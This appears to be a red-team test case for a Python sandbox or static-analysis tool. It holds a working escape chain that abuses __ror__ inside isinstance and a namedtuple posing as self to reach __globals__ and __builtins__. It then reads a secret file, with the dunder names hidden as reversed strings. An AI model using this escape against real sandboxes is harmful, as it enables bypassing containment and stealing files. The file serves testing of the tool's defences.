# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: a class in isinstance()'s classinfo is a "class position", not a class used as a value
# (objects._classes_as_values). But `Reader | spy` there is evaluated first: type.__or__ gives NotImplemented for
# a non-class, so Python calls spy.__ror__(Reader) and the tool's own __ror__ keeps the class. k.fetch on a
# parameter is then taken as bound (objects._bound): Reader.fetch runs with a namedtuple as self, whose
# "class constant" FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Spy:
    def __init__(self):
        self.got = []

    def __ror__(self, other):
        self.got.append(other)
        return int


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    spy = Spy()
    isinstance(1, Reader | spy)
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(spy.got[0], box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
